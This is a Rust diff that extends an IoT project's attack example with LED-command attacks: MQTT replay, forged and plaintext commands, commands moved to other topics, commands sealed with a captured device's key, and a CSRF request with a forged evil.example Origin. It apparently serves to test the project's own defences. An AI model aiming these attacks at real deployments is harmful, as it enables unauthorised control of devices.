@@ -9,6 +9,12 @@
 //! cargo run --example attack -- replay --record frames.jsonl --seconds 10
 //! cargo run --example attack -- replay --play frames.jsonl
 //! cargo run --example attack -- flood --devices 2000
+//! cargo run --example attack -- command-record --out commands.jsonl --count 2   # click a switch
+//! cargo run --example attack -- command-replay --play commands.jsonl
+//! cargo run --example attack -- command-forge
+//! cargo run --example attack -- command-move --from commands.jsonl
+//! cargo run --example attack -- command-foreign-key --key-file garage.key --device kitchen-pi
+//! cargo run --example attack -- command-csrf --device kitchen-pi --led red
 //! ```
 //!
 //! Each attack prints what it did, then the server's counters before and after (`GET /api/stats`)
@@ -27,8 +33,8 @@ use std::time::Duration;
 use clap::{Parser, Subcommand};
 use ledtemp_core::{
     Algorithm, AnyCodec, Codec, DeviceId, FrameHeader, HEADER_LEN, InsecurePlaintextCodec, KeyId,
-    LedState, MAX_FRAME_LEN, Message, MilliCelsius, NodeStatus, SensorName, SequenceNumber,
-    TemperatureReading, Topic, Uptime,
+    LedCommand, LedName, LedState, MAX_FRAME_LEN, Message, MilliCelsius, NodeStatus, SensorName,
+    SequenceNumber, TemperatureReading, Topic, Uptime,
 };
 use rumqttc::v5::mqttbytes::QoS;
 use rumqttc::v5::mqttbytes::v5::Packet;
@@ -49,7 +55,7 @@ const FLOOD_PREFIX: &str = "flood-";
 /// limit (so that it reaches the pipeline and is counted).
 const OVERSIZE_LEN: usize = 1_000;
 
-/// Attacks on a ledtemp deployment: sniff, poison, replay, flood.
+/// Attacks on a ledtemp deployment: sniff, poison, replay, flood, and the LED command attacks.
 #[derive(Debug, Parser)]
 #[command(name = "attack")]
 struct Cli {
@@ -70,6 +76,10 @@ struct Cli {
     /// Seconds to wait after publishing before reading the counters again.
     #[arg(long, default_value_t = 1.5)]
     settle: f64,
+    /// Command attacks: seconds to watch for the device's answer (its LED frame) after each
+    /// command published.
+    #[arg(long, default_value_t = 1.5)]
+    watch: f64,
     #[command(subcommand)]
     attack: Attack,
 }
@@ -129,6 +139,84 @@ enum Attack {
         #[arg(long, default_value_t = 15)]
         wait: u64,
     },
+    /// Record the LED commands the server sends (`ledtemp/+/cmd/+`) to a file: switch an LED on
+    /// the dashboard meanwhile. The file feeds `command-replay` and `command-move`.
+    CommandRecord {
+        /// Where to write them (JSON lines: topic and hex payload, as `replay --record`).
+        #[arg(long, value_name = "FILE")]
+        out: PathBuf,
+        /// How long to record at most.
+        #[arg(long, default_value_t = 60)]
+        seconds: u64,
+        /// Stop after this many commands.
+        #[arg(long)]
+        count: Option<usize>,
+    },
+    /// Publish commands that no server sent: one sealed with a guessed key (for the device's
+    /// current session, read from its status frame's clear header), one in plaintext.
+    CommandForge {
+        /// The device (default: the first one on the dashboard with an LED).
+        #[arg(long)]
+        device: Option<String>,
+        /// Its LED (default: its first one on the dashboard).
+        #[arg(long)]
+        led: Option<String>,
+    },
+    /// Publish recorded genuine commands again, one at a time: within the device's session, or
+    /// after it rebooted.
+    CommandReplay {
+        /// A file written by `command-record` (or `replay --record`: its commands are used).
+        #[arg(long, value_name = "FILE")]
+        play: PathBuf,
+    },
+    /// Publish a recorded genuine command on another LED of its device, and on the same LED of
+    /// another device.
+    CommandMove {
+        /// A file written by `command-record`; its first command is moved.
+        #[arg(long, value_name = "FILE")]
+        from: PathBuf,
+        /// The other LED (default: another LED the dashboard shows for the device, or `moved`).
+        #[arg(long)]
+        led: Option<String>,
+        /// The other device (default: another device on the dashboard).
+        #[arg(long)]
+        device: Option<String>,
+    },
+    /// Publish a command sealed with another device's real key: what a captured device gives
+    /// away. The key comes from a key file, or from a keyring (`--keyring`, `--captured`).
+    CommandForeignKey {
+        /// The captured device's key file (`ledtemp-keys add --key-file`).
+        #[arg(long, value_name = "FILE", required_unless_present = "keyring")]
+        key_file: Option<PathBuf>,
+        /// A keyring holding the captured device's key (the demo's is in its data directory).
+        #[arg(long, value_name = "FILE", requires = "captured", conflicts_with = "key_file")]
+        keyring: Option<PathBuf>,
+        /// With --keyring: the captured device.
+        #[arg(long)]
+        captured: Option<String>,
+        /// The device attacked (default: the first one on the dashboard with an LED other than
+        /// the captured one).
+        #[arg(long)]
+        device: Option<String>,
+        /// Its LED (default: its first one on the dashboard).
+        #[arg(long)]
+        led: Option<String>,
+    },
+    /// The dashboard's switch, posted from another site (cross-site request forgery): with the
+    /// victim's session cookie but another Origin, and without the session's CSRF token; then
+    /// the same request from the dashboard's own origin with the token, which must work.
+    CommandCsrf {
+        /// The device.
+        #[arg(long)]
+        device: Option<String>,
+        /// Its LED.
+        #[arg(long)]
+        led: Option<String>,
+        /// The dashboard password, when login is on: the attack logs in first, as the victim's
+        /// browser would have (its session cookie is what a forged request carries).
+        #[arg(long, env = "LEDTEMP_PASSWORD", hide_env_values = true)]
+        password: Option<String>,
+    },
 }
 
 /// Any failure; the attack stops and the message is printed.
@@ -162,10 +250,23 @@ fn main() -> ExitCode {
 }
 
 async fn run(cli: Cli) -> Result<()> {
-    let api = Api::new(&cli.server, cli.token.clone())?;
+    let mut api = Api::new(&cli.server, cli.token.clone())?;
     let broker = parse_broker(&cli.broker)?;
     let settle = Duration::from_secs_f64(cli.settle.max(0.0));
+    let watch = Duration::from_secs_f64(cli.watch.max(0.0));
+    if let Attack::CommandCsrf { password: Some(password), .. } = &cli.attack {
+        api.login(password).await?;
+    }
     let before = Observation::take(&api).await?;
+    let command_attack = matches!(
+        cli.attack,
+        Attack::CommandRecord { .. }
+            | Attack::CommandForge { .. }
+            | Attack::CommandReplay { .. }
+            | Attack::CommandMove { .. }
+            | Attack::CommandForeignKey { .. }
+            | Attack::CommandCsrf { .. }
+    );
     let mut summary = match cli.attack {
         Attack::Sniff { seconds } => sniff(&broker, Duration::from_secs(seconds)).await?,
         Attack::Poison { device, wait } => {
@@ -180,11 +281,59 @@ async fn run(cli: Cli) -> Result<()> {
             let flood = Flood { junk, oversize, devices, rate };
             flood.run(&broker, &api, &before, settle, Duration::from_secs(wait)).await?
         }
+        Attack::CommandRecord { out, seconds, count } => {
+            record_commands(&broker, &out, Duration::from_secs(seconds), count).await?
+        }
+        Attack::CommandForge { device, led } => {
+            let target = CommandTarget::choose(&before, device.as_deref(), led.as_deref(), None)?;
+            command_forge(&broker, &target, watch).await?
+        }
+        Attack::CommandReplay { play } => command_replay(&broker, &play, watch).await?,
+        Attack::CommandMove { from, led, device } => {
+            command_move(&broker, &before, &from, led.as_deref(), device.as_deref(), watch).await?
+        }
+        Attack::CommandForeignKey { key_file, keyring, captured, device, led } => {
+            let key = match (key_file, keyring, captured) {
+                (Some(file), _, _) => ledtemp_keys::load_key_file(&file)?,
+                (None, Some(keyring), Some(captured)) => {
+                    let captured = DeviceId::new(&captured)?;
+                    ledtemp_keys::Keyring::load(&keyring)?.current(&captured).cloned().ok_or_else(
+                        || AttackError(format!("no key of {captured} in {}", keyring.display())),
+                    )?
+                }
+                _ => {
+                    return Err(AttackError("give --key-file, or --keyring and --captured".into()));
+                }
+            };
+            let captured = key.device.as_str().to_owned();
+            let target =
+                CommandTarget::choose(&before, device.as_deref(), led.as_deref(), Some(&captured))?;
+            command_foreign_key(&broker, &target, &key, watch).await?
+        }
+        Attack::CommandCsrf { device, led, .. } => {
+            let target = CommandTarget::choose(&before, device.as_deref(), led.as_deref(), None)?;
+            command_csrf(&broker, &api, &target, watch).await?
+        }
     };
     tokio::time::sleep(settle).await;
     let after = Observation::take(&api).await?;
     let report = before.compare(&after);
     report.print(before.insecure(), after.insecure());
+    if command_attack {
+        let changes = before.led_changes(&after);
+        if changes.is_empty() {
+            println!("LEDs (GET /api/devices): none changed");
+        } else {
+            println!("LEDs (GET /api/devices): CHANGED:");
+            for change in &changes {
+                println!("  {change}");
+            }
+        }
+        if let Value::Object(fields) = &mut summary {
+            fields.insert("led_changes".into(), json!(changes));
+            fields.insert("leds_after".into(), after.leds_json());
+        }
+    }
     if let Value::Object(fields) = &mut summary {
         fields.insert("stats_delta".into(), report.delta.clone());
         fields.insert("dashboard_changes".into(), json!(report.changes));
@@ -318,8 +467,11 @@ async fn record(broker: &(String, u16), file: &Path, duration: Duration) -> Resu
     Ok(json!({ "attack": "record", "recorded": count }))
 }
 
-async fn play(broker: &(String, u16), file: &Path) -> Result<Value> {
-    let reader = std::io::BufReader::new(std::fs::File::open(file)?);
+/// The messages of a file `record` or `record_commands` wrote, in order.
+fn read_recording(file: &Path) -> Result<Vec<(String, Vec<u8>)>> {
+    let reader = std::io::BufReader::new(
+        std::fs::File::open(file).map_err(|e| AttackError(format!("{}: {e}", file.display())))?,
+    );
     let mut frames = Vec::new();
     for line in reader.lines() {
         let line = line?;
@@ -329,6 +481,11 @@ async fn play(broker: &(String, u16), file: &Path) -> Result<Value> {
         let recorded: Recorded = serde_json::from_str(&line)?;
         frames.push((recorded.topic, hex::decode(recorded.payload)?));
     }
+    Ok(frames)
+}
+
+async fn play(broker: &(String, u16), file: &Path) -> Result<Value> {
+    let frames = read_recording(file)?;
     println!("replay: publishing {} recorded frames from {} again", frames.len(), file.display());
     let mut mqtt = Mqtt::connect(broker, "replay", None).await?;
     for (topic, payload) in &frames {
@@ -336,6 +493,428 @@ async fn play(broker: &(String, u16), file: &Path) -> Result<Value> {
     }
     mqtt.flush().await?;
     Ok(json!({ "attack": "replay", "sent": frames.len() }))
+}
+
+// ---- the command attacks ----
+
+/// The commands a recording holds, in order: `(topic, frame)` on `ledtemp/<device>/cmd/<led>`.
+fn recorded_commands(file: &Path) -> Result<Vec<(String, Vec<u8>)>> {
+    let commands: Vec<_> = read_recording(file)?
+        .into_iter()
+        .filter(|(topic, _)| matches!(Topic::parse(topic), Ok(Topic::Command { .. })))
+        .collect();
+    if commands.is_empty() {
+        return Err(AttackError(format!(
+            "{} holds no command: record while somebody switches an LED (command-record)",
+            file.display()
+        )));
+    }
+    Ok(commands)
+}
+
+async fn record_commands(
+    broker: &(String, u16),
+    file: &Path,
+    duration: Duration,
+    count: Option<usize>,
+) -> Result<Value> {
+    let filter = "ledtemp/+/cmd/+";
+    let mut mqtt = Mqtt::connect(broker, "record-commands", Some(filter)).await?;
+    let mut out = std::io::BufWriter::new(std::fs::File::create(file)?);
+    // The tests wait for this line before they switch an LED.
+    println!(
+        "command-record: listening on {filter} for {} s: switch an LED on the dashboard now",
+        duration.as_secs()
+    );
+    std::io::stdout().flush()?;
+    let mut recorded = 0usize;
+    let deadline = tokio::time::Instant::now() + duration;
+    while count.is_none_or(|count| recorded < count) {
+        let Ok(Some((topic, payload))) = tokio::time::timeout_at(deadline, mqtt.next()).await
+        else {
+            break;
+        };
+        println!("  {topic:<40} {:>4} B  {}", payload.len(), read_frame(&topic, &payload));
+        let line = serde_json::to_string(&Recorded { topic, payload: hex::encode(payload) })?;
+        writeln!(out, "{line}")?;
+        out.flush()?;
+        recorded += 1;
+    }
+    println!("command-record: recorded {recorded} commands to {}", file.display());
+    Ok(json!({ "attack": "command-record", "recorded": recorded }))
+}
+
+/// The device and LED a command attack aims at, and what the dashboard shows of it.
+struct CommandTarget {
+    device: DeviceId,
+    led: LedName,
+    /// The LED's state on the dashboard before the attack; a forged command asks for the other.
+    on: bool,
+}
+
+impl CommandTarget {
+    /// `device` and `led`, or the first device on the dashboard with an LED (not `except`) and
+    /// its first LED.
+    fn choose(
+        before: &Observation,
+        device: Option<&str>,
+        led: Option<&str>,
+        except: Option<&str>,
+    ) -> Result<CommandTarget> {
+        let leds = before.led_states();
+        let chosen = leds.iter().find(|((d, l), _)| {
+            device.is_none_or(|device| d == device)
+                && led.is_none_or(|led| l == led)
+                && except.is_none_or(|except| d != except)
+        });
+        let ((d, l), on) = match (chosen, device, led) {
+            (Some(found), _, _) => (found.0.clone(), *found.1),
+            // Not on the dashboard (yet): aim anyway, as an attacker can.
+            (None, Some(device), Some(led)) => ((device.to_owned(), led.to_owned()), false),
+            (None, _, _) => {
+                return Err(AttackError(
+                    "no device with an LED on the dashboard: give --device and --led".into(),
+                ));
+            }
+        };
+        Ok(CommandTarget { device: DeviceId::new(&d)?, led: LedName::new(&l)?, on })
+    }
+
+    fn topic(&self) -> String {
+        format!("ledtemp/{}/cmd/{}", self.device, self.led)
+    }
+
+    /// The command an attacker wants obeyed: the other state, for `session`.
+    fn command(&self, session: SequenceNumber) -> Message {
+        Message::Command(LedCommand {
+            led: self.led.clone(),
+            state: LedState::from(!self.on),
+            session,
+            // The node's uptime is sealed; a far expiry is the attacker's best guess.
+            expires: Uptime(u32::MAX / 2),
+        })
+    }
+}
+
+/// What the device's status frame (retained by the broker) shows in its clear header: its
+/// session (the status's sequence number) and key id. Zeros if none arrives.
+async fn sniff_session(
+    broker: &(String, u16),
+    device: &DeviceId,
+) -> Result<(SequenceNumber, KeyId)> {
+    let filter = format!("ledtemp/{device}/status");
+    let mut mqtt = Mqtt::connect(broker, "status", Some(&filter)).await?;
+    let status = tokio::time::timeout(Duration::from_secs(2), mqtt.next()).await.ok().flatten();
+    let header = status.and_then(|(_, frame)| {
+        FrameHeader::parse(&frame).or_else(|_| InsecurePlaintextCodec::parse_header(&frame)).ok()
+    });
+    Ok(match header {
+        Some(header) => {
+            println!(
+                "  {filter}: session {} (the status frame's sequence number), key id {}",
+                header.sequence.get(),
+                header.key_id.0
+            );
+            (header.sequence, header.key_id)
+        }
+        None => {
+            println!("  {filter}: no status frame seen; guessing session 0, key id 1");
+            (SequenceNumber::new(0)?, KeyId(1))
+        }
+    })
+}
+
+/// Publishes commands and watches every device's LED topics: a node that applied a command
+/// answers with its LED frame at once (an LED frame may also come from a button press).
+struct CommandSender {
+    mqtt: Mqtt,
+    watch: Duration,
+    sent: usize,
+    answered: usize,
+}
+
+impl CommandSender {
+    async fn connect(broker: &(String, u16), watch: Duration) -> Result<CommandSender> {
+        let mqtt = Mqtt::connect(broker, "command", Some("ledtemp/+/led/+")).await?;
+        Ok(CommandSender { mqtt, watch, sent: 0, answered: 0 })
+    }
+
+    /// Publishes `frame` on `topic`, then watches for an LED frame of the device the topic
+    /// names; prints what happened. Returns whether the device answered.
+    async fn send(&mut self, what: &str, topic: &str, frame: Vec<u8>) -> Result<bool> {
+        while self.mqtt.received.try_recv().is_ok() {}
+        let device = match Topic::parse(topic) {
+            Ok(parsed) => parsed.device().as_str().to_owned(),
+            Err(_) => String::new(),
+        };
+        let len = frame.len();
+        self.mqtt.publish(topic, frame).await?;
+        self.mqtt.flush().await?;
+        self.sent += 1;
+        let prefix = format!("ledtemp/{device}/led/");
+        let deadline = tokio::time::Instant::now() + self.watch;
+        let mut answer = None;
+        while let Ok(Some((led_topic, _))) =
+            tokio::time::timeout_at(deadline, self.mqtt.next()).await
+        {
+            if led_topic.starts_with(&prefix) {
+                answer = Some(led_topic);
+                break;
+            }
+        }
+        let outcome = match &answer {
+            Some(led_topic) => format!("OBEYED: the device answered on {led_topic}"),
+            None => format!("no answer from {device} (ignored or refused)"),
+        };
+        println!("  published {what:<44} {len:>4} B on {topic}: {outcome}");
+        if answer.is_some() {
+            self.answered += 1;
+        }
+        Ok(answer.is_some())
+    }
+
+    fn summary(&self, attack: &str) -> Value {
+        json!({ "attack": attack, "sent": self.sent, "answered": self.answered })
+    }
+}
+
+async fn command_forge(
+    broker: &(String, u16),
+    target: &CommandTarget,
+    watch: Duration,
+) -> Result<Value> {
+    let state = if target.on { "OFF" } else { "ON" };
+    println!(
+        "command-forge: switching {}/{} {state} without the server",
+        target.device, target.led
+    );
+    let (session, key_id) = sniff_session(broker, &target.device).await?;
+    let command = target.command(session);
+    // Far ahead of any number the server used, as a forger would pick it.
+    let sequence = SequenceNumber::new(1_000_000 + u64::from(random_bytes::<2>()[0]))?;
+    let guessed = AnyCodec::new(Algorithm::Aes128Gcm, key_id, &random_bytes::<16>())?;
+    let plain = InsecurePlaintextCodec::new(key_id);
+    let mut sender = CommandSender::connect(broker, watch).await?;
+    let topic = target.topic();
+    sender
+        .send(
+            "command sealed with a guessed key",
+            &topic,
+            seal(&guessed, &target.device, sequence, &command)?,
+        )
+        .await?;
+    sender
+        .send("plaintext command", &topic, seal(&plain, &target.device, sequence, &command)?)
+        .await?;
+    Ok(sender.summary("command-forge"))
+}
+
+async fn command_replay(broker: &(String, u16), file: &Path, watch: Duration) -> Result<Value> {
+    let commands = recorded_commands(file)?;
+    println!(
+        "command-replay: publishing {} recorded commands again, one at a time",
+        commands.len()
+    );
+    let mut sender = CommandSender::connect(broker, watch).await?;
+    for (topic, frame) in commands {
+        let what = match read_frame(&topic, &frame) {
+            Reading::Plaintext(text) => format!("recorded {text}"),
+            Reading::Sealed { sequence, .. } => format!("recorded command (sequence {sequence})"),
+            Reading::Unreadable(why) => format!("recorded message ({why})"),
+        };
+        sender.send(&what, &topic, frame).await?;
+    }
+    Ok(sender.summary("command-replay"))
+}
+
+async fn command_move(
+    broker: &(String, u16),
+    before: &Observation,
+    file: &Path,
+    other_led: Option<&str>,
+    other_device: Option<&str>,
+    watch: Duration,
+) -> Result<Value> {
+    let commands = recorded_commands(file)?;
+    let Some((topic, frame)) = commands.into_iter().next() else {
+        return Err(AttackError(format!("{} holds no command", file.display())));
+    };
+    let Ok(Topic::Command { device, led }) = Topic::parse(&topic) else {
+        return Err(AttackError(format!("{topic} is not a command topic")));
+    };
+    let leds = before.led_states();
+    let other_led = match other_led {
+        Some(led) => led.to_owned(),
+        None => leds
+            .keys()
+            .find(|(d, l)| d == device.as_str() && l != led.as_str())
+            .map_or_else(|| "moved".to_owned(), |(_, l)| l.clone()),
+    };
+    let other_device = match other_device {
+        Some(device) => device.to_owned(),
+        None => leds
+            .keys()
+            .map(|(d, _)| d.clone())
+            .chain(before.device_ids())
+            .find(|d| d != device.as_str())
+            .unwrap_or_else(|| "neighbour".to_owned()),
+    };
+    println!("command-move: the recorded command on {topic}, published elsewhere");
+    let mut sender = CommandSender::connect(broker, watch).await?;
+    sender
+        .send(
+            &format!("genuine command moved to LED {other_led}"),
+            &format!("ledtemp/{device}/cmd/{other_led}"),
+            frame.clone(),
+        )
+        .await?;
+    sender
+        .send(
+            &format!("genuine command moved to device {other_device}"),
+            &format!("ledtemp/{other_device}/cmd/{led}"),
+            frame,
+        )
+        .await?;
+    Ok(sender.summary("command-move"))
+}
+
+async fn command_foreign_key(
+    broker: &(String, u16),
+    target: &CommandTarget,
+    key: &ledtemp_keys::KeyEntry,
+    watch: Duration,
+) -> Result<Value> {
+    let state = if target.on { "OFF" } else { "ON" };
+    println!(
+        "command-foreign-key: switching {}/{} {state} with the real key of {} (key id {})",
+        target.device, target.led, key.device, key.key_id.0
+    );
+    let (session, _) = sniff_session(broker, &target.device).await?;
+    let command = target.command(session);
+    let sequence = SequenceNumber::new(1_000_000 + u64::from(random_bytes::<2>()[0]))?;
+    let mut sender = CommandSender::connect(broker, watch).await?;
+    sender
+        .send(
+            &format!("command sealed with {}'s key", key.device),
+            &target.topic(),
+            seal(&key.codec(), &target.device, sequence, &command)?,
+        )
+        .await?;
+    Ok(sender.summary("command-foreign-key"))
+}
+
+/// One POST of the dashboard's switch, as some page would send it.
+struct SwitchPost {
+    what: &'static str,
+    origin: String,
+    fetch_site: &'static str,
+    with_cookie: bool,
+    with_token: bool,
+}
+
+async fn command_csrf(
+    broker: &(String, u16),
+    api: &Api,
+    target: &CommandTarget,
+    watch: Duration,
+) -> Result<Value> {
+    let state = if target.on { "OFF" } else { "ON" };
+    let path = format!("/api/devices/{}/leds/{}", target.device, target.led);
+    let session = api.session.as_ref();
+    println!(
+        "command-csrf: POST {path} {{\"on\": {}}} ({})",
+        !target.on,
+        if session.is_some() {
+            "logged in: the victim's browser holds a session cookie"
+        } else {
+            "no login on this server"
+        }
+    );
+    let evil = "http://evil.example".to_owned();
+    let own = api.base.clone();
+    let mut posts = vec![SwitchPost {
+        what: "from another site (Origin http://evil.example)",
+        origin: evil,
+        fetch_site: "cross-site",
+        with_cookie: true,
+        with_token: false,
+    }];
+    if session.is_some() {
+        posts.push(SwitchPost {
+            what: "with the session cookie, without X-CSRF-Token",
+            origin: own.clone(),
+            fetch_site: "same-origin",
+            with_cookie: true,
+            with_token: false,
+        });
+    } else {
+        posts.push(SwitchPost {
+            what: "from a sandboxed page (Origin null)",
+            origin: "null".to_owned(),
+            fetch_site: "cross-site",
+            with_cookie: true,
+            with_token: false,
+        });
+    }
+    posts.push(SwitchPost {
+        what: "CONTROL: from the dashboard's origin, with its token",
+        origin: own,
+        fetch_site: "same-origin",
+        with_cookie: true,
+        with_token: true,
+    });
+    let filter = format!("ledtemp/{}/cmd/+", target.device);
+    let mut sniffer = Mqtt::connect(broker, "csrf-sniff", Some(&filter)).await?;
+    let mut attempts = Vec::new();
+    let mut refused = 0usize;
+    for post in &posts {
+        let logged_before = api.command_log_len(&target.device).await?;
+        let mut request = api
+            .client
+            .post(format!("{}{path}", api.base))
+            .header("origin", &post.origin)
+            .header("sec-fetch-site", post.fetch_site)
+            .json(&json!({ "on": !target.on }));
+        if let Some(session) = session {
+            if post.with_cookie {
+                request = request.header("cookie", &session.cookie);
+            }
+            if post.with_token {
+                request = request.header("x-csrf-token", &session.csrf);
+            }
+        }
+        let response = request.send().await?;
+        let status = response.status();
+        let body = response.text().await.unwrap_or_default();
+        // Whatever the server published for it has reached the broker by now.
+        let mut published = 0usize;
+        let deadline = tokio::time::Instant::now() + watch;
+        while let Ok(Some(_)) = tokio::time::timeout_at(deadline, sniffer.next()).await {
+            published += 1;
+        }
+        let logged = api.command_log_len(&target.device).await?.saturating_sub(logged_before);
+        if status == reqwest::StatusCode::FORBIDDEN {
+            refused += 1;
+        }
+        let outcome = serde_json::from_str::<Value>(&body)
+            .ok()
+            .and_then(|b| b["outcome"].as_str().or(b["error"].as_str()).map(str::to_owned))
+            .unwrap_or_default();
+        println!(
+            "  POST {:<52} -> {} {outcome}; commands published: {published}; logged: {logged}",
+            post.what,
+            status.as_u16(),
+        );
+        attempts.push(json!({
+            "what": post.what,
+            "status": status.as_u16(),
+            "outcome": outcome,
+            "published": published,
+            "logged": logged,
+        }));
+    }
+    println!("command-csrf: {refused} of {} refused; the control asked for {state}", posts.len());
+    Ok(json!({ "attack": "command-csrf", "attempts": attempts, "refused": refused }))
 }
 
 /// What `flood` sends.
@@ -642,20 +1221,65 @@ struct Api {
     client: reqwest::Client,
     base: String,
     token: Option<String>,
+    /// A login session (`command-csrf --password`): what a victim's browser holds.
+    session: Option<Session>,
+}
+
+/// A dashboard login session.
+struct Session {
+    /// `name=value` of the session cookie.
+    cookie: String,
+    /// The session's CSRF token (what the dashboard's own script sends as `X-CSRF-Token`).
+    csrf: String,
 }
 
 impl Api {
     fn new(base: &str, token: Option<String>) -> Result<Api> {
-        let client = reqwest::Client::builder().timeout(Duration::from_secs(10)).build()?;
-        Ok(Api { client, base: base.trim_end_matches('/').to_owned(), token })
+        let client = reqwest::Client::builder()
+            .timeout(Duration::from_secs(10))
+            .redirect(reqwest::redirect::Policy::none())
+            .build()?;
+        Ok(Api { client, base: base.trim_end_matches('/').to_owned(), token, session: None })
     }
 
     fn get(&self, path: &str) -> reqwest::RequestBuilder {
         let request = self.client.get(format!("{}{path}", self.base));
-        match &self.token {
-            Some(token) => request.bearer_auth(token),
-            None => request,
+        match (&self.token, &self.session) {
+            (Some(token), _) => request.bearer_auth(token),
+            (None, Some(session)) => request.header("cookie", &session.cookie),
+            (None, None) => request,
         }
+    }
+
+    /// Logs in as the dashboard's login page does (its double-submit token, then the password).
+    async fn login(&mut self, password: &str) -> Result<()> {
+        let response = self.client.get(format!("{}/auth/login-token", self.base)).send().await?;
+        let login_cookie = first_cookie(response.headers())
+            .ok_or_else(|| AttackError("GET /auth/login-token set no cookie".into()))?;
+        let token: Value = response.json().await?;
+        let response = self
+            .client
+            .post(format!("{}/auth/login", self.base))
+            .header("origin", &self.base)
+            .header("cookie", login_cookie)
+            .json(&json!({ "password": password, "csrf": token["csrf"] }))
+            .send()
+            .await?;
+        if !response.status().is_success() {
+            return Err(AttackError(format!("login: {}", response.status())));
+        }
+        let cookie = first_cookie(response.headers())
+            .ok_or_else(|| AttackError("the login set no session cookie".into()))?;
+        let body: Value = response.json().await?;
+        let csrf = body["csrf"].as_str().unwrap_or_default().to_owned();
+        self.session = Some(Session { cookie, csrf });
+        Ok(())
+    }
+
+    /// How many entries the command log holds for `device` (at most 500).
+    async fn command_log_len(&self, device: &DeviceId) -> Result<usize> {
+        let log = self.json(&format!("/api/commands?device={device}&limit=500")).await?;
+        Ok(log.as_array().map_or(0, Vec::len))
     }
 
     async fn json(&self, path: &str) -> Result<Value> {
@@ -670,6 +1294,14 @@ impl Api {
     async fn healthz(&self) -> Result<u16> {
         Ok(self.get("/healthz").send().await?.status().as_u16())
     }
+}
+
+/// `name=value` of the first `Set-Cookie` that sets a value.
+fn first_cookie(headers: &reqwest::header::HeaderMap) -> Option<String> {
+    headers.get_all("set-cookie").iter().filter_map(|v| v.to_str().ok()).find_map(|header| {
+        let pair = header.split(';').next()?.trim();
+        pair.split_once('=').filter(|(_, value)| !value.is_empty()).map(|_| pair.to_owned())
+    })
 }
 
 /// The server's counters and devices at one moment.
@@ -712,6 +1344,44 @@ impl Observation {
 
     fn device(&self, id: &str) -> Option<&Value> {
         self.devices.as_array()?.iter().find(|d| d["id"].as_str() == Some(id))
+    }
+
+    /// Every LED shown: (device, LED) -> on.
+    fn led_states(&self) -> BTreeMap<(String, String), bool> {
+        let mut states = BTreeMap::new();
+        for device in self.devices.as_array().into_iter().flatten() {
+            let id = device["id"].as_str().unwrap_or_default();
+            for led in device["leds"].as_array().into_iter().flatten() {
+                let name = led["led"].as_str().unwrap_or_default();
+                states.insert((id.to_owned(), name.to_owned()), led["on"].as_bool() == Some(true));
+            }
+        }
+        states
+    }
+
+    /// `{"device/led": on}` of every LED shown.
+    fn leds_json(&self) -> Value {
+        let states: serde_json::Map<String, Value> = self
+            .led_states()
+            .into_iter()
+            .map(|((device, led), on)| (format!("{device}/{led}"), json!(on)))
+            .collect();
+        Value::Object(states)
+    }
+
+    /// LEDs whose state changed, or that appeared, between two observations.
+    fn led_changes(&self, after: &Observation) -> Vec<String> {
+        let word = |on: bool| if on { "ON" } else { "OFF" };
+        let old = self.led_states();
+        after
+            .led_states()
+            .into_iter()
+            .filter_map(|((device, led), on)| match old.get(&(device.clone(), led.clone())) {
+                Some(&was) if was == on => None,
+                Some(&was) => Some(format!("{device}/{led}: {} -> {}", word(was), word(on))),
+                None => Some(format!("{device}/{led}: new, {}", word(on))),
+            })
+            .collect()
     }
 
     /// (device, "led"/"sensor", name) of everything shown.
